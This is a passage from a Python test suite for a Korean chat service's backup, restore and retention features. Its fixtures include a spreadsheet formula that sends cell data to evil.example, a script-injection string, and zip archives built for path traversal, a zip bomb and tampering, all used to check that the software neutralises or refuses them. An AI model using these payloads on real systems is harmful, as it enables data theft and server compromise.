"""Consultation history backups (SPEC EXP-1..6, CHAT-19; DESIGN section 10's
/a/CODE/backups): a member starts a backup, the worker writes it, the page shows
its progress, the file is downloaded through nginx; its content is read back with
Python's csv, json and zipfile modules and compared with the database."""

import csv
import hashlib
import io
import json
import os
import re
import secrets
import time
import urllib.parse
import zipfile

from client import Client, File
from testlib import expect, expect_status, expect_see_other
from test_inbox import Agent, sql_text, one
from test_talk import Customer, PDF, png_bytes

HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"보기")'
HOSTILE_HTML = '<script>alert("백업")</script>'
TEXTS = [
    "안녕하세요, 주문한 상품이 아직 안 왔어요 😢",
    "줄바꿈\n두 번째 줄\r\n세 번째 줄",
    HOSTILE_FORMULA,
    HOSTILE_HTML,
    '따옴표 "인용" 과, 쉼표',
    "+82 10-1234-5678",
    "@멘션 -마이너스",
    # COPY's text format escapes these (backups stream through it): a lone \N
    # is its NULL, and a tab its separator
    "\\N",
    "경로 C:\\new\\table\t탭 뒤 \\N \\\\ 끝",
]
ATTACHMENT_NAME = "견적서 사본 (최종).pdf"
IMAGE_NAME = "사진 😀.png"

_state = {}


def csrf_of(client, path):
    r = client.get(path)
    expect_status(r, 200, what="GET %s" % path)
    return r.csrf()


class History:
    """An account with two members, one customer's messages (Korean, emoji, line
    breaks, hostile text), two attachments with Korean names, and replies from both
    members; the room and the customer carry hostile names."""

    def __init__(self, s):
        self.s = s
        self.owner = Agent(s)
        self.helper = Agent(s)
        self.owner.add_member(self.helper)
        self.code = self.owner.code
        self.customer = Customer(s, self.code)
        for text in TEXTS:
            expect_status(self.customer.send(text), 303, what="customer post")
        r = self.customer.send_file(File(ATTACHMENT_NAME, PDF, "application/pdf"), text="첨부")
        expect_status(r, 303, what="customer file")
        r = self.customer.send_file(File(IMAGE_NAME, png_bytes(3, 2), "image/png"))
        expect_status(r, 303, what="customer image")
        self.room = int(one(s, "SELECT id FROM rooms WHERE account_id = %s" % self.owner.account_id))
        r = self.owner.send(self.room, "주인이 답합니다 ✅")
        expect_status(r, 303, what="owner reply")
        token = csrf_of(self.helper.client, "/a/%s/chats/%d" % (self.code, self.room))
        r = self.helper.client.post_multipart("/a/%s/chats/%d/messages" % (self.code, self.room),
                                              {"text": "도우미가 답합니다\n두 줄"}, None, csrf=token)
        expect_status(r, 303, what="helper reply")
        s.psql("UPDATE rooms SET name = %s, memo = %s WHERE id = %d"
               % (sql_text(HOSTILE_HTML[:30]), sql_text("메모 " + HOSTILE_FORMULA), self.room))
        s.psql("UPDATE customers SET display_name = %s WHERE account_id = %s"
               % (sql_text(HOSTILE_FORMULA[:20]), self.owner.account_id))
        s.psql("INSERT INTO labels (account_id, name, color) VALUES (%s, 'VIP 고객', '#ff0000')"
               % self.owner.account_id)
        s.psql("INSERT INTO room_labels (room_id, label_id) SELECT %d, id FROM labels "
               "WHERE account_id = %s" % (self.room, self.owner.account_id))

    def messages(self):
        """The account's messages as the database has them, oldest first."""
        out = self.s.psql(
            "SELECT json_agg(json_build_object('id', m.id, 'text', m.body, 'sender', m.sender, "
            "'email', coalesce(p.email, ''), 'utc', to_char(m.created_at AT TIME ZONE 'UTC', "
            "'YYYY-MM-DD\"T\"HH24:MI:SS.US\"Z\"'), 'file', coalesce(f.display_name, ''), "
            "'stored', coalesce(f.stored_name, '')) ORDER BY m.created_at, m.id) "
            "FROM messages m LEFT JOIN partners p ON p.id = m.partner_id "
            "LEFT JOIN attachments f ON f.id = m.attachment_id WHERE m.account_id = %s"
            % self.owner.account_id)
        return json.loads(out)


def history(s):
    if "history" not in _state:
        _state["history"] = History(s)
    return _state["history"]


def start_backup(agent, fmt, frm="", to="", expect_code=303):
    """Starts a backup from the page; returns its id."""
    base = "/a/%s/backups" % agent.code
    token = csrf_of(agent.client, base)
    r = agent.client.post(base, {"format": fmt, "from": frm, "to": to}, csrf=token)
    if expect_code != 303:
        expect_status(r, expect_code, what="POST backups")
        return r
    expect_see_other(r, base, what="POST backups")
    r = agent.client.get(base)
    ids = [int(x) for x in re.findall(r'data-backup="(\d+)"', r.text)]
    expect(ids, "the page lists no backup after starting one", r)
    return max(ids)


def status(agent, backup):
    r = agent.client.get("/a/%s/backups/%d/status" % (agent.code, backup),
                         headers={"Accept": "application/json"})
    expect_status(r, 200, what="GET status")
    return json.loads(r.text)


def wait_done(agent, backup, seconds=120):
    """Polls the status route until the backup ended; returns every status seen."""
    seen = []
    deadline = time.time() + seconds
    while time.time() < deadline:
        st = status(agent, backup)
        seen.append(st)
        if st["status"] not in ("queued", "running"):
            return seen
        time.sleep(0.1)
    raise AssertionError("backup %d did not end within %ds: %r" % (backup, seconds, seen[-3:]))


def download(agent, backup):
    r = agent.client.get("/a/%s/backups/%d/download" % (agent.code, backup))
    expect_status(r, 200, what="GET download")
    return r


def backup_bytes(agent, fmt, **period):
    backup = start_backup(agent, fmt, **period)
    seen = wait_done(agent, backup)
    expect(seen[-1]["status"] == "ready", "the backup ended %r" % seen[-1])
    return backup, download(agent, backup).body


# ---------------------------------------------------------------------------



# The CSV says its columns in the starter's language (Korean here), for a spreadsheet;
# JSON Lines keeps the codes. Every header must be one of these.
CSV_KEYS = {
    "메시지 번호": "message_id", "상담 계정": "account", "채팅방 번호": "room_id", "채팅방 이름": "room_name",
    "고객 키": "customer_key", "고객 번호": "customer_number", "고객 이름": "customer_name",
    "유입 경로": "inflow", "이전 페이지": "referrer", "시각": "time_local", "시각(UTC)": "time_utc",
    "보낸 사람": "sender", "상담원 이메일": "member_email", "상담원 이름": "member_name", "종류": "kind",
    "내용": "text", "첨부파일 이름": "attachment_name", "첨부파일 경로": "attachment_path",
    "첨부파일 형식": "attachment_type", "첨부파일 크기(바이트)": "attachment_size",
    "메모": "memo", "상태": "status", "중요": "important", "만든 시각(UTC)": "created_utc", "라벨": "labels",
    "친구": "is_friend", "친구 추가 시각(UTC)": "friend_since_utc", "차단": "blocked",
}


def csv_rows(data, rooms=False, customers=False):
    """The rows of a backup's CSV (bytes with its byte-order mark) keyed by the columns'
    codes; fails on a header that is not in Korean words."""
    reader = csv.DictReader(io.StringIO(data[3:].decode("utf-8"), newline=""))
    keys = dict(CSV_KEYS)
    if rooms:
        keys["채팅방 이름"] = "name"
    if customers:
        keys["고객 이름"] = "display_name"
    unknown = [h for h in reader.fieldnames if h not in keys]
    expect(not unknown, "CSV columns not in Korean words: %r" % unknown)
    return [{keys[k]: v for k, v in row.items()} for row in reader]


def test_csv_backup_reads_back_exactly(s):
    h = history(s)
    backup, body = backup_bytes(h.owner, "csv")
    expect(body.startswith(b"\xef\xbb\xbf"), "the CSV has no byte-order mark")
    rows = csv_rows(body)
    want = h.messages()
    expect(len(rows) == len(want), "%d rows for %d messages" % (len(rows), len(want)))
    for row, m in zip(rows, want):
        text = m["text"]
        if text[:1] in ("=", "+", "-", "@", "\t", "\r"):
            text = "'" + text
        expect(row["text"] == text, "text %r read back as %r" % (text, row["text"]))
        expect(row["time_utc"] == m["utc"], "time %r read back as %r" % (m["utc"], row["time_utc"]))
        expect(row["member_email"] == m["email"], "sender %r vs %r" % (m["email"], row["member_email"]))
        expect(row["attachment_name"] == m["file"], "file %r vs %r" % (m["file"], row["attachment_name"]))
        expect(row["account"] == h.code, "account %r" % row["account"])
        expect(row["sender"] == {"customer": "고객", "agent": "상담원",
                                 "system": "자동 메시지"}[m["sender"]], "sender kind %r" % row["sender"])
        expect(row["kind"] in ("텍스트", "이미지", "파일"), "the kind %r is not in words" % row["kind"])
    names = [r["customer_name"] for r in rows if r["sender"] == "고객"]
    expect(all(n.startswith("'=HYPERLINK") for n in names), "the hostile name is not neutralised: %r"
           % names[:1])
    members = {r["member_name"] for r in rows if r["sender"] == "상담원"}
    expect(members == {h.owner.name, h.helper.name}, "the members are %r" % members)
    expect(re.match(r"^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$", rows[0]["time_local"]),
           "local time %r" % rows[0]["time_local"])


def test_jsonl_backup_reads_back_exactly(s):
    h = history(s)
    backup, body = backup_bytes(h.owner, "jsonl")
    lines = body.decode("utf-8").split("\n")
    expect(lines[-1] == "", "the file does not end with a newline")
    objects = [json.loads(line) for line in lines[:-1]]
    want = h.messages()
    expect(len(objects) == len(want), "%d objects for %d messages" % (len(objects), len(want)))
    for o, m in zip(objects, want):
        expect(o["text"] == m["text"], "text %r read back as %r" % (m["text"], o["text"]))
        expect(o["message_id"] == m["id"] and o["time_utc"] == m["utc"], "id or time differ: %r" % o)
        expect(o["attachment_name"] == m["file"], "file %r vs %r" % (m["file"], o["attachment_name"]))
    expect(b"<script>" not in body, "the JSON Lines carry a raw <script> (not escaped)")


def test_another_accounts_backup_is_404(s):
    h = history(s)
    backup = start_backup(h.owner, "csv")
    wait_done(h.owner, backup)
    other = Agent(s)
    base = "/a/%s/backups/%d" % (other.code, backup)
    for path in (base + "/status", base + "/download"):
        r = other.client.get(path)
        expect_status(r, 404, what="GET %s of another account's backup" % path)
    token = csrf_of(other.client, "/a/%s/backups" % other.code)
    r = other.client.post(base + "/cancel", {}, csrf=token)
    expect_status(r, 404, what="POST cancel of another account's backup")
    r = other.client.get("/a/%s/backups" % h.code)
    expect_status(r, 404, what="GET another account's backups page")
    r = other.client.get("/a/%s/backups" % other.code)
    expect('data-backup="%d"' % backup not in r.text, "another account's backup is listed", r)


def test_page_lists_ready_file_and_history_records_start(s):
    h = history(s)
    backup = start_backup(h.owner, "jsonl", frm="2020-01-01", to="2099-12-31")
    wait_done(h.owner, backup)
    r = h.owner.client.get("/a/%s/backups" % h.code)
    expect('href="/a/%s/backups/%d/download"' % (h.code, backup) in r.text,
           "the ready backup has no download link", r)
    expect('href="/a/%s/backups"' % h.code in r.text, "no refresh link without JavaScript", r)
    expect("<progress" in r.text, "no progress bar", r)
    n = one(s, "SELECT count(*) FROM account_history WHERE account_id = %s AND menu = 'backups' "
               "AND action = 'backup_start'" % h.owner.account_id)
    expect(int(n) >= 1, "starting a backup wrote no history entry")
    token = csrf_of(h.owner.client, "/a/%s/backups" % h.code)
    r = h.owner.client.post("/a/%s/backups" % h.code, {"format": "csv", "from": "2024-05-02",
                                                      "to": "2024-05-01"}, csrf=token)
    expect_status(r, 422, what="POST backups with the end before the start")
    r = h.owner.client.post("/a/%s/backups" % h.code, {"format": "exe"}, csrf=token)
    expect_status(r, 422, what="POST backups with an unknown format")


def zip_of(body):
    archive = zipfile.ZipFile(io.BytesIO(body))
    expect(archive.testzip() is None, "a zip entry fails its CRC")
    return archive


def test_zip_backup_has_both_files_attachments_and_manifest(s):
    h = history(s)
    backup, body = backup_bytes(h.owner, "zip")
    archive = zip_of(body)
    names = archive.namelist()
    for name in ("manifest.json", "account.json", "messages.csv", "messages.jsonl", "rooms.csv",
                 "rooms.jsonl", "customers.csv", "customers.jsonl"):
        expect(name in names, "the zip has no %s: %r" % (name, names))
    manifest = json.loads(archive.read("manifest.json"))
    listed = {f["path"]: f for f in manifest["files"]}
    expect(set(listed) == set(names) - {"manifest.json"},
           "the manifest lists %r, the zip holds %r" % (sorted(listed), sorted(names)))
    for path, f in listed.items():
        data = archive.read(path)
        expect(len(data) == f["size"], "%s: manifest size %d, file %d" % (path, f["size"], len(data)))
        expect(hashlib.sha256(data).hexdigest() == f["sha256"], "%s: SHA-256 differs" % path)
    want = h.messages()
    messages = [json.loads(line) for line in archive.read("messages.jsonl").decode().splitlines()]
    expect([m["text"] for m in messages] == [m["text"] for m in want], "messages.jsonl differs")
    with_files = [m for m in messages if m["attachment_path"]]
    expect(len(with_files) == 2, "%d messages with files, not 2" % len(with_files))
    for m in with_files:
        info = archive.getinfo(m["attachment_path"])
        expect(info.flag_bits & 0x800, "%s is not stored as a UTF-8 name" % m["attachment_path"])
        expect(m["attachment_path"].endswith("/" + m["attachment_name"]),
               "path %r does not end in the name %r" % (m["attachment_path"], m["attachment_name"]))
        stored = [w["stored"] for w in want if w["id"] == m["message_id"]][0]
        with open("%s/uploads/%s" % (s.var, stored), "rb") as f:
            expect(archive.read(m["attachment_path"]) == f.read(), "%s differs" % m["attachment_path"])
    expect(any(m["attachment_name"] == ATTACHMENT_NAME for m in with_files), "the Korean name is lost")
    rooms = [json.loads(line) for line in archive.read("rooms.jsonl").decode().splitlines()]
    expect(len(rooms) == 1 and rooms[0]["name"] == HOSTILE_HTML[:30]
           and rooms[0]["memo"] == "메모 " + HOSTILE_FORMULA
           and rooms[0]["labels"] == [{"name": "VIP 고객", "color": "#ff0000"}],
           "rooms.jsonl is %r" % rooms)
    customers = csv_rows(archive.read("customers.csv"), customers=True)
    expect(customers[0]["is_friend"] in ("예", "아니요"), "customers.csv says %r for a friend"
           % customers[0]["is_friend"])
    expect(len(customers) == 1 and customers[0]["display_name"] == "'" + HOSTILE_FORMULA[:20],
           "customers.csv is %r" % customers)
    account = json.loads(archive.read("account.json"))
    expect(account["accounts"][0]["code"] == h.code, "account.json is %r" % account)


def test_operator_backs_up_every_account(s):
    from test_inbox import operator
    h = history(s)
    op = operator(s)
    token = csrf_of(op, "/ops/backups")
    r = op.post("/ops/backups", {"format": "csv"}, csrf=token)
    expect_see_other(r, "/ops/backups", what="POST /ops/backups")
    r = op.get("/ops/backups")
    backup = max(int(x) for x in re.findall(r'data-backup="(\d+)"', r.text))
    deadline = time.time() + 120
    while time.time() < deadline:
        st = json.loads(op.get("/ops/backups/%d/status" % backup).text)
        if st["status"] not in ("queued", "running"):
            break
        time.sleep(0.2)
    expect(st["status"] == "ready", "the operator's backup ended %r" % st)
    body = op.get("/ops/backups/%d/download" % backup).body
    rows = csv_rows(body)
    total = int(one(s, "SELECT count(*) FROM messages"))
    expect(len(rows) == total, "%d rows for the %d messages of every account" % (len(rows), total))
    expect(h.code in {r["account"] for r in rows}, "the account is missing from the backup")
    r = h.owner.client.get("/a/%s/backups/%d/status" % (h.code, backup))
    expect_status(r, 404, what="a member asks for the operator's backup")


# ---------------------------------------------------------------------------
# restore (EXP-5) on a second stack with a fresh VAR, which also rests after each
# batch of rows so that a backup's progress can be watched and cancelled

SECOND_CONFIG = ["export_pause_ms = 700"]
_second = []


def second_stack(shared):
    if not _second:
        import atexit
        import stack as stack_module
        second = stack_module.Stack(root=shared.root)
        atexit.register(second.stop)
        _second.append(second)
        second.start(extra_config=SECOND_CONFIG)
    return _second[0]


def zip_backup(s):
    """A zip backup of the shared history (made once)."""
    if "zip" not in _state:
        h = history(s)
        _state["zip"] = backup_bytes(h.owner, "zip")[1]
    return _state["zip"]


def restore(stack, body, *args, check=True):
    path = "%s/tmp/restore-%s.zip" % (stack.var, secrets.token_hex(4))
    with open(path, "wb") as f:
        f.write(body)
    proc = stack.sangdamctl("restore-account", path, *args, check=False)
    if check:
        expect(proc.returncode == 0, "restore-account failed: %s %s" % (proc.stdout, proc.stderr))
    return proc


def state_of(stack):
    """What a refused restore must leave alone: row counts and upload files."""
    import os
    counts = stack.psql("SELECT (SELECT count(*) FROM accounts), (SELECT count(*) FROM customers), "
                        "(SELECT count(*) FROM rooms), (SELECT count(*) FROM messages), "
                        "(SELECT count(*) FROM attachments), (SELECT count(*) FROM labels)").strip()
    files = sorted(os.path.relpath(os.path.join(d, f), stack.var)
                   for d, _, names in os.walk(os.path.join(stack.var, "uploads")) for f in names)
    return counts, files


MESSAGE_FIELDS = ("customer_key", "customer_number", "customer_name", "room_name", "inflow",
                  "referrer", "time_local", "time_utc", "sender", "member_email", "member_name",
                  "kind", "text", "attachment_name", "attachment_type", "attachment_size")


def same_history(first, second):
    """Compares two zip backups of one history message by message, field by field, and
    every attachment byte for byte; rooms and customers likewise."""
    a, b = zip_of(first), zip_of(second)
    ma = [json.loads(x) for x in a.read("messages.jsonl").decode().splitlines()]
    mb = [json.loads(x) for x in b.read("messages.jsonl").decode().splitlines()]
    expect(len(ma) == len(mb), "%d messages restored of %d" % (len(mb), len(ma)))
    for x, y in zip(ma, mb):
        for field in MESSAGE_FIELDS:
            expect(x[field] == y[field], "message %s: %s %r restored as %r"
                   % (x["message_id"], field, x[field], y[field]))
        if x["attachment_path"]:
            expect(a.read(x["attachment_path"]) == b.read(y["attachment_path"]),
                   "attachment %r differs after the restore" % x["attachment_name"])
    for name, drop in (("rooms.jsonl", "room_id"), ("customers.jsonl", None)):
        ra = [json.loads(x) for x in a.read(name).decode().splitlines()]
        rb = [json.loads(x) for x in b.read(name).decode().splitlines()]
        for row in ra + rb:
            row.pop(drop, None)
        expect(ra == rb, "%s differs: %r vs %r" % (name, ra, rb))


class Owner:
    """A partner of the second stack with an empty approved account of their own (the
    shared helpers keep one operator per process, of the first stack)."""

    def __init__(self, t):
        from testlib import signup
        self.s = t
        self.client, self.email, _ = signup(t, name="복원 " + secrets.token_hex(3))
        self.client.get("/accounts/new")
        r = self.client.post("/accounts/new", {"kind": "personal", "category1": "shopping",
                                               "name": "복원 " + secrets.token_hex(4),
                                               "agree_terms": "1"})
        expect(r.status == 303, "POST /accounts/new on the second stack", r)
        self.code = r.location_path.split("/")[2]
        t.psql("UPDATE accounts SET status = 'approved' WHERE code = %s" % sql_text(self.code))


def test_restore_on_a_second_server_keeps_everything(s):
    body = zip_backup(s)
    t = second_stack(s)
    owner = Owner(t)
    before = int(t.psql("SELECT count(*) FROM accounts").strip())
    proc = restore(t, body, "--owner", owner.email)
    code = proc.stdout.strip().splitlines()[-1]
    expect(re.match(r"^[a-z0-9]{6}$", code), "the last line is not the code: %r" % proc.stdout)
    expect(int(t.psql("SELECT count(*) FROM accounts").strip()) == before + 1, "no new account")
    restored = Agent.__new__(Agent)
    restored.s, restored.client, restored.code = t, owner.client, code
    backup, again = backup_bytes(restored, "zip")
    same_history(body, again)
    # the rooms' search keys, written once at the restore's end (migrations 0034, 0035)
    of_code = "JOIN accounts a ON a.id = m.account_id WHERE a.code = %s" % sql_text(code)
    missing = t.psql("SELECT count(*) FROM messages m LEFT JOIN room_search s ON s.room_id = m.room_id "
                     + of_code + " AND m.body <> '' "
                     "AND NOT coalesce(s.keys, '{}') @> search_keys(m.body)").strip()
    expect(missing == "0", "the search terms of %s restored messages are not their rooms'" % missing)
    want = {int(x) for x in t.psql("SELECT DISTINCT m.room_id FROM messages m " + of_code
                                   + " AND strpos(m.body, '상품이') > 0").split()}
    found, page = restored.list_ids("q=" + urllib.parse.quote("상품이"))
    expect(want and set(found) == want, "searching the restored account for 상품이 finds %r, "
           "its messages have it in %r" % (found, want), page)
    master = t.psql("SELECT p.email FROM members m JOIN partners p ON p.id = m.partner_id "
                    "JOIN accounts a ON a.id = m.account_id WHERE a.code = %s AND m.role = 'master'"
                    % sql_text(code)).strip()
    expect(master.lower() == owner.email.lower(), "the master is %r" % master)
    # the inbox's tab counts (migration 0028), which the restore counts once at its end
    of_code = "JOIN accounts a ON a.id = x.account_id WHERE a.code = %s" % sql_text(code)
    rooms = t.psql("SELECT count(*) FILTER (WHERE NOT x.hidden AND x.status = 'unread'), "
                   "count(*) FILTER (WHERE NOT x.hidden AND x.status = 'unanswered'), "
                   "count(*) FILTER (WHERE NOT x.hidden AND x.status = 'answered'), "
                   "count(*) FILTER (WHERE NOT x.hidden AND x.status = 'completed'), "
                   "count(*) FILTER (WHERE x.hidden) FROM rooms x " + of_code).split()
    kept = t.psql("SELECT coalesce(sum(unread), 0), coalesce(sum(unanswered), 0), "
                  "coalesce(sum(answered), 0), coalesce(sum(completed), 0), "
                  "coalesce(sum(left_rooms), 0) FROM room_status_counts x " + of_code).split()
    expect(sum(int(n) for n in rooms) > 0 and kept == rooms,
           "the restored account's tab counts are %s, its rooms %s" % (kept, rooms))
    # --into: the owner's own (empty) account takes it too, once
    proc = restore(t, body, "--into", owner.code)
    expect(proc.stdout.strip().splitlines()[-1] == owner.code, "--into answered %r" % proc.stdout)
    proc = restore(t, body, "--into", owner.code, check=False)
    expect(proc.returncode != 0, "a restore into an account that is not empty succeeded")


def rewritten(body, change=None, add=(), manifest=True):
    """BODY's zip with entries changed by CHANGE(name, data) and entries ADDed
    ((ZipInfo or name, data, compress)); the manifest lists the added ones when
    MANIFEST."""
    src = zip_of(body)
    listing = json.loads(src.read("manifest.json"))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            if info.filename == "manifest.json":
                continue
            data = src.read(info.filename)
            z.writestr(info.filename, change(info.filename, data) if change else data)
        for name, data, compress in add:
            z.writestr(name, data, compress_type=compress)
            if manifest:
                path = name.filename if isinstance(name, zipfile.ZipInfo) else name
                listing["files"].append({"path": path, "size": len(data),
                                         "sha256": hashlib.sha256(data).hexdigest()})
        z.writestr("manifest.json", json.dumps(listing))
    return out.getvalue()


def test_restore_refuses_tampered_traversing_and_bomb_archives(s):
    body = zip_backup(s)
    t = second_stack(s)
    owner = Owner(t)
    tampered = rewritten(body, change=lambda n, d: d.replace("줄바꿈".encode(), "바꿈줄".encode())
                         if n == "messages.jsonl" else d)
    traversing = rewritten(body, add=[("../../evil.txt", b"evil", zipfile.ZIP_STORED)])
    absolute = rewritten(body, add=[(zipfile.ZipInfo("/tmp/evil.txt"), b"evil", zipfile.ZIP_STORED)])
    bomb = rewritten(body, add=[("attachments/9/zeros.bin", b"\0" * (20 << 20), zipfile.ZIP_DEFLATED)])
    unlisted = rewritten(body, add=[("attachments/9/extra.txt", b"extra", zipfile.ZIP_STORED)],
                         manifest=False)
    for what, data, why in (("tampered", tampered, "checksum"), ("traversing", traversing, "path"),
                            ("absolute", absolute, "path"), ("bomb", bomb, "zip bomb"),
                            ("unlisted", unlisted, "not in the manifest")):
        before = state_of(t)
        proc = restore(t, data, "--owner", owner.email, check=False)
        expect(proc.returncode != 0, "the %s archive was restored: %s" % (what, proc.stdout))
        expect("refused" in proc.stderr and why in proc.stderr,
               "the %s archive is not refused for its %s: %s" % (what, why, proc.stderr))
        expect(state_of(t) == before, "the %s archive left rows or files behind" % what)
    proc = restore(t, rewritten(body), "--owner", owner.email)
    expect(proc.returncode == 0, "a rewritten but intact archive was refused: %s" % proc.stderr)


# ---------------------------------------------------------------------------
# the worker's sweeps: expiry, retention (CHAT-19, EXP-6), deletion (ACC-8)


def sweep_until(s, sql, want, seconds=120, what=""):
    """Asks the worker to sweep now until SQL answers WANT."""
    deadline = time.time() + seconds
    got = None
    while time.time() < deadline:
        s.psql("NOTIFY sangdam_jobs, 'sweep'")
        got = one(s, sql)
        if got == want:
            return
        time.sleep(0.5)
    raise AssertionError("%s: %r after %ds, wanted %r" % (what or sql, got, seconds, want))


def test_ready_backup_expires_after_7_days(s):
    import os
    h = history(s)
    backup = start_backup(h.owner, "csv")
    wait_done(h.owner, backup)
    name = one(s, "SELECT file_name FROM backups WHERE id = %d" % backup)
    path = os.path.join(s.var, "exports", name)
    expect(os.path.exists(path), "the ready file is not in the exports folder")
    expires = one(s, "SELECT round(extract(epoch FROM expires_at - finished_at) / 86400) "
                     "FROM backups WHERE id = %d" % backup)
    expect(expires == "7", "the file is kept %s days, not 7" % expires)
    s.psql("UPDATE backups SET expires_at = now() - interval '1 second', "
           "finished_at = finished_at - interval '7 days' WHERE id = %d" % backup)
    sweep_until(s, "SELECT status FROM backups WHERE id = %d" % backup, "expired",
                what="the backup's status after 7 days")
    expect(not os.path.exists(path), "the expired file is still on the disk")
    r = h.owner.client.get("/a/%s/backups/%d/download" % (h.code, backup))
    expect_status(r, 404, what="GET download of an expired backup")


def test_retention_deletes_only_older_messages_after_their_backup(s):
    import os
    a = Agent(s)
    customer = Customer(s, a.code)
    for text in ("오래된 메시지 1", "오래된 메시지 2", "새 메시지"):
        expect_status(customer.send(text), 303, what="customer post")
    expect_status(customer.send_file(File("오래된 첨부.pdf", PDF, "application/pdf")), 303,
                  what="customer file")
    old = "m.body LIKE '오래된%%' OR m.attachment_id IS NOT NULL"
    stored = one(s, "SELECT f.stored_name FROM attachments f WHERE f.account_id = %s" % a.account_id)
    s.psql("UPDATE messages m SET created_at = now() - interval '3 years 1 day' "
           "WHERE m.account_id = %s AND (%s)" % (a.account_id, old))
    older = int(one(s, "SELECT count(*) FROM messages m WHERE m.account_id = %s AND (%s)"
                       % (a.account_id, old)))
    total = int(one(s, "SELECT count(*) FROM messages WHERE account_id = %s" % a.account_id))
    # the database refuses the deletion without a finished backup of it
    try:
        s.psql("SELECT retention_delete(%s, now(), 0)" % a.account_id)
        refused = ""
    except Exception as e:  # noqa: BLE001
        refused = str(e)
    expect("no finished backup" in refused, "retention_delete ran without a backup: %r" % refused)
    expect(int(one(s, "SELECT count(*) FROM messages WHERE account_id = %s" % a.account_id)) == total,
           "a refused retention deleted messages")
    s.psql("UPDATE accounts SET retention_checked_at = NULL WHERE id = %s" % a.account_id)
    sweep_until(s, "SELECT count(*) FROM messages WHERE account_id = %s" % a.account_id,
                str(total - older), what="messages left after retention")
    left = one(s, "SELECT string_agg(body, '|' ORDER BY id) FROM messages WHERE account_id = %s"
                  " AND sender = 'customer'" % a.account_id)
    expect(left == "새 메시지", "retention left %r" % left)
    expect(not os.path.exists(os.path.join(s.var, "uploads", stored)),
           "the deleted message's attachment file is still there")
    backup = int(one(s, "SELECT id FROM backups WHERE account_id = %s AND reason = 'retention' "
                        "AND status = 'ready'" % a.account_id))
    body = download(a, backup).body
    z = zip_of(body)
    saved = [json.loads(x)["text"] for x in z.read("messages.jsonl").decode().splitlines()]
    expect(sorted(t for t in saved if t) == ["오래된 메시지 1", "오래된 메시지 2"],
           "the retention backup holds %r" % saved)
    expect(any(n.endswith("오래된 첨부.pdf") for n in z.namelist()), "the backup lacks the file")
    r = a.client.get("/a/%s/chats/settings" % a.code)
    expect('name="retention_years"' in r.text and 'value="3"' in r.text,
           "the settings page does not show the retention of 3 years", r)


def test_retention_keeps_the_file_an_faq_entry_still_names(s):
    """A tap on an FAQ entry with an image stores an attachment naming the FAQ image's own
    file. Retention deleting that old tap keeps the file: the FAQ's image and a later tap's
    attachment are still served."""
    a = Agent(s)
    r = a.client.post_multipart(a.base + "/faq", {"question": "사진 질문", "answer": "사진 답", "link": ""},
                                [("image", File("ok.png", png_bytes(), "image/png"))], csrf=a.csrf)
    expect_see_other(r, a.base + "/faq", what="POST /faq with an image")
    expect_see_other(a.client.post(a.base + "/faq/publish", {}, csrf=a.csrf), a.base + "/faq",
                     what="POST /faq/publish")
    entry = int(one(s, "SELECT id FROM faq_entries WHERE account_id = %s" % a.account_id))
    published = int(one(s, "SELECT id FROM faq_published WHERE account_id = %s" % a.account_id))
    stored = one(s, "SELECT image_name FROM faq_entries WHERE id = %d" % entry)
    customer = Customer(s, a.code)
    expect_status(customer.post("/faq/%d" % published), 303, what="the first tap")
    s.psql("UPDATE messages SET created_at = now() - interval '3 years 1 day' WHERE account_id = %s"
           % a.account_id)
    expect_status(customer.post("/faq/%d" % published), 303, what="the second tap")
    shared = one(s, "SELECT count(*) FROM attachments WHERE stored_name = %s" % sql_text(stored))
    expect(shared == "2", "the taps' attachments do not name the FAQ image's file (%s)" % shared)
    s.psql("UPDATE accounts SET retention_checked_at = NULL WHERE id = %s" % a.account_id)
    sweep_until(s, "SELECT count(*) FROM attachments WHERE account_id = %s" % a.account_id, "1",
                what="attachments left after retention")
    expect(os.path.exists(os.path.join(s.var, "uploads", stored)),
           "retention removed the file that the FAQ entry and the later tap still name")
    expect_status(a.client.get(a.base + "/faq/%d/image" % entry), 200, what="the FAQ's image after retention")
    attachment = int(one(s, "SELECT id FROM attachments WHERE account_id = %s" % a.account_id))
    expect_status(customer.c.get("/talk/%s/files/%d" % (a.code, attachment)), 200,
                  what="the later tap's image after retention")


def test_account_deletion_writes_a_backup_kept_for_the_operator(s):
    from test_inbox import operator
    a = Agent(s)
    customer = Customer(s, a.code)
    expect_status(customer.send("삭제 전 마지막 메시지"), 303, what="customer post")
    # its QR code, cached for nginx to send (issue 8), goes with it
    expect_status(a.client.get("/a/%s/qr/350.png" % a.code), 200, what="GET qr/350.png")
    cached = os.path.join(s.var, "cache", "pages", "a", a.code)
    expect(os.path.isdir(cached), "the QR code is not cached in %s" % cached)
    s.psql("UPDATE accounts SET delete_after = now() - interval '1 minute' WHERE id = %s"
           % a.account_id)
    sweep_until(s, "SELECT count(*) FROM accounts WHERE id = %s" % a.account_id, "0",
                what="the account after its deletion time")
    expect(not os.path.exists(cached), "the deleted account's cached QR codes are still in %s" % cached)
    expect_status(Client(s).get("/a/%s/qr/350.png" % a.code), 404, what="GET qr/350.png of a deleted account")
    row = one(s, "SELECT id || ',' || status || ',' || coalesce(expires_at::text, 'kept') "
                 "FROM backups WHERE account_code = %s AND reason = 'deletion'" % sql_text(a.code))
    expect(row.endswith(",ready,kept"), "the deletion backup is %r" % row)
    op = operator(s)
    body = op.get("/ops/backups/%s/download" % row.split(",")[0]).body
    saved = [json.loads(x)["text"] for x in zip_of(body).read("messages.jsonl").decode().splitlines()]
    expect("삭제 전 마지막 메시지" in saved, "the deletion backup holds %r" % saved)


# ---------------------------------------------------------------------------
# progress, cancel and faults, on the second stack (it rests 700 ms per 10,000 rows)

BIG = 30000


class Big:
    """An account of the second stack with BIG messages written straight in SQL."""

    def __init__(self, t):
        owner = Owner(t)
        self.s, self.client, self.code = t, owner.client, owner.code
        account = one(t, "SELECT id FROM accounts WHERE code = %s" % sql_text(self.code))
        t.psql("WITH c AS (INSERT INTO customers (account_id, key_hash, number) VALUES (%s, 'big', 1) "
               "RETURNING id), r AS (INSERT INTO rooms (account_id, customer_id) SELECT %s, id FROM c "
               "RETURNING id) INSERT INTO messages (account_id, room_id, sender, body, created_at) "
               "SELECT %s, r.id, 'customer', '메시지 ' || g, now() - g * interval '1 second' "
               "FROM r, generate_series(1, %d) g" % (account, account, account, BIG))


def big(t):
    if "big" not in _state:
        _state["big"] = Big(t)
    return _state["big"]


def partial_files(t, backup):
    import os
